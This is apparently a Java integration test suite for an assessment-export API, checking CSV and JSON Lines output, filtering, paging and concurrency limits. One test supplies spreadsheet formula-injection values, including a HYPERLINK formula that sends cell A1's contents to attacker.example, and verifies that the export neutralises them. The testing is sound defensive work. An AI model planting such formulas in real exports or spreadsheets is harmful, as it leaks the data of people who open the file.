package io.airisk.assessment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.airisk.Api;
import io.airisk.TestKeys;
import io.airisk.access.Caller;
import io.airisk.assessment.service.AssessmentExport;
import io.airisk.assessment.service.ExportFormat;
import io.airisk.assessment.service.ExportsBusyException;
import io.airisk.common.MutableClock;
import io.quarkus.test.junit.QuarkusMock;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import jakarta.ws.rs.core.StreamingOutput;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The export: every matching assessment once, in the list's order, across pages (the test
 * profile reads three rows a page) and across rows created at the same instant; CSV that a
 * spreadsheet reads as text, JSON Lines equal to what GET shows.
 */
@QuarkusTest
class ExportTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Api admin = Api.as(TestKeys.ADMIN);
    private final MutableClock clock = new MutableClock(Instant.now().truncatedTo(ChronoUnit.SECONDS));

    @Inject
    AssessmentExport export;

    @BeforeEach
    void freezeTheClock() {
        // Every assessment of a test is created at the same instant: pages must break ties by id.
        QuarkusMock.installMockForType(clock, Clock.class);
    }

    @Test
    void shouldExportEveryAssessmentOnceInTheListsOrderAsCsv() throws IOException {
        String organization = Api.organization("Export, \"quoted\"");
        List<String> submitted = new ArrayList<>();
        for (int i = 0; i < 7; i++) {
            String id = admin.createCompleteDraft(organization);
            if (i % 2 == 0) {
                admin.submit(id).statusCode(200);
                submitted.add(id);
            }
        }

        List<Map<String, String>> rows = csv(exported("csv", organization, null));

        List<String> listed = admin.given()
                .queryParam("organization", organization)
                .queryParam("size", 100)
                .get("/api/v1/assessments")
                .then()
                .statusCode(200)
                .extract()
                .path("items.id");
        assertThat(rows).extracting(row -> row.get("id")).containsExactlyElementsOf(listed);
        for (Map<String, String> row : rows) {
            JsonNode shown = JSON.readTree(
                    admin.get(row.get("id")).statusCode(200).extract().asString());
            assertThat(row.get("organization")).isEqualTo(organization);
            assertThat(row.get("organization_id"))
                    .isEqualTo(shown.path("organizationId").asText());
            assertThat(row.get("status")).isEqualTo(shown.path("status").asText());
            assertThat(Instant.parse(row.get("created_at")))
                    .isEqualTo(Instant.parse(shown.path("createdAt").asText()));
            assertThat(row.get("questionnaire_version")).isEqualTo(Api.VERSION);
            JsonNode result = shown.path("result");
            if (submitted.contains(row.get("id"))) {
                assertThat(new BigDecimal(row.get("overall_risk")))
                        .isEqualByComparingTo(result.path("overallRisk").decimalValue());
                assertThat(row.get("band")).isEqualTo(result.path("band").asText());
                assertThat(row.get("vector")).isEqualTo(result.path("vector").asText());
                for (JsonNode dimension : result.path("dimensions")) {
                    assertThat(new BigDecimal(row.get(dimension.path("id").asText())))
                            .as(dimension.path("id").asText())
                            .isEqualByComparingTo(dimension.path("score").decimalValue());
                }
            } else {
                assertThat(row.get("overall_risk")).isEmpty();
                assertThat(row.get("band")).isEmpty();
                assertThat(row.get("vector")).startsWith("AIRISK:1.0/");
            }
            assertThat(JSON.readTree(row.get("answers"))).isEqualTo(shown.path("answers"));
        }
    }

    @Test
    void shouldFilterAsTheListDoes() throws IOException {
        String organization = Api.organization("Export filter");
        String draft = admin.createCompleteDraft(organization);
        String done = admin.createCompleteDraft(organization);
        admin.submit(done).statusCode(200);

        assertThat(csv(exported("csv", organization, "SUBMITTED")))
                .extracting(row -> row.get("id"))
                .containsExactly(done);
        assertThat(csv(exported("csv", organization.toUpperCase(Locale.ROOT), "draft")))
                .extracting(row -> row.get("id"))
                .containsExactly(draft);
    }

    @Test
    void shouldWriteEachAssessmentAsGetShowsItAsJsonLines() throws IOException {
        String organization = Api.organization("Export lines");
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
            ids.add(admin.createCompleteDraft(organization));
        }
        admin.submit(ids.get(1)).statusCode(200);

        Response response = exported("jsonl", organization, null);

        assertThat(response.contentType()).startsWith("application/x-ndjson");
        String body = response.asString();
        assertThat(body).endsWith("\n");
        String[] lines = body.split("\n");
        assertThat(lines).hasSize(4);
        List<String> exportedIds = new ArrayList<>();
        for (String line : lines) {
            JsonNode assessment = JSON.readTree(line);
            exportedIds.add(assessment.path("id").asText());
            assertThat(assessment)
                    .isEqualTo(JSON.readTree(admin.get(assessment.path("id").asText())
                            .statusCode(200)
                            .extract()
                            .asString()));
        }
        assertThat(exportedIds).containsExactlyInAnyOrderElementsOf(ids);
    }

    @Test
    void shouldKeepEveryTextCellATextInASpreadsheetAndUnicodeIntact() throws IOException {
        String suffix = UUID.randomUUID().toString();
        String formula = "=HYPERLINK(\"https://attacker.example/?\"&A1, \"Click\") " + suffix;
        String unicode = "Zürich, 東京 😀 \"Ltd\" " + suffix;
        admin.create(Map.of("organization", Map.of("name", formula, "industry", "+SUM(1,2)", "size", "@cmd")))
                .statusCode(201);
        admin.create(Map.of("organization", Map.of("name", unicode, "industry", "-1+1", "size", "1000-5000")))
                .statusCode(201);

        Map<String, String> attack = csv(exported("csv", formula, null)).get(0);
        assertThat(attack.get("organization")).isEqualTo("'" + formula);
        assertThat(attack.get("industry")).isEqualTo("'+SUM(1,2)");
        assertThat(attack.get("size")).isEqualTo("'@cmd");
        Response plain = exported("csv", unicode, null);
        assertThat(plain.contentType()).isEqualToIgnoringCase("text/csv; charset=utf-8");
        assertThat(plain.header("Content-Disposition")).matches("attachment; filename=\"assessments-[0-9-]+\\.csv\"");
        assertThat(new String(plain.asByteArray(), StandardCharsets.UTF_8)).contains("\r\n");
        Map<String, String> row = csv(plain).get(0);
        assertThat(row.get("organization")).isEqualTo(unicode);
        assertThat(row.get("industry")).isEqualTo("'-1+1");
        assertThat(row.get("size")).isEqualTo("1000-5000");
    }

    @Test
    void shouldNameEveryBadParameter() {
        admin.given()
                .queryParam("format", "xlsx")
                .queryParam("status", "ARCHIVED")
                .queryParam("organization", " ")
                .get("/api/v1/assessments/export")
                .then()
                .statusCode(400)
                .contentType(Api.PROBLEM_JSON)
                .body("errors.field", containsInAnyOrder("format", "status", "organization"));
        Api.anonymous()
                .given()
                .get("/api/v1/assessments/export")
                .then()
                .statusCode(401)
                .contentType(startsWith(Api.PROBLEM_JSON));
    }

    @Test
    void shouldRunOnlyAsManyExportsAtOnceAsConfigured() throws IOException {
        Caller caller =
                new Caller(UUID.fromString("00000000-0000-7000-8000-000000000001"), null, "test", null, null, null);
        List<StreamingOutput> running = new ArrayList<>();
        try {
            running.add(export.export(caller, Api.organization("Nobody"), null, ExportFormat.CSV));
            running.add(export.export(caller, Api.organization("Nobody"), null, ExportFormat.JSONL));
            assertThatThrownBy(() -> export.export(caller, Api.organization("Nobody"), null, ExportFormat.CSV))
                    .isInstanceOf(ExportsBusyException.class);
        } finally {
            for (StreamingOutput output : running) {
                output.write(new ByteArrayOutputStream()); // ends the export, and frees its place
            }
        }
        running.clear();
        running.add(export.export(caller, Api.organization("Nobody"), null, ExportFormat.CSV));
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        running.get(0).write(header);
        assertThat(header.toString(StandardCharsets.UTF_8)).startsWith("id,organization_id,organization,");
    }

    private Response exported(String format, String organization, String status) {
        var request = admin.given().queryParam("format", format).queryParam("organization", organization);
        if (status != null) {
            request.queryParam("status", status);
        }
        Response response = request.get("/api/v1/assessments/export");
        assertThat(response.statusCode()).as(response.asString()).isEqualTo(200);
        return response;
    }

    private static List<Map<String, String>> csv(Response response) throws IOException {
        try (MappingIterator<Map<String, String>> rows = new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .readValues(response.asByteArray())) {
            return rows.readAll();
        }
    }
}
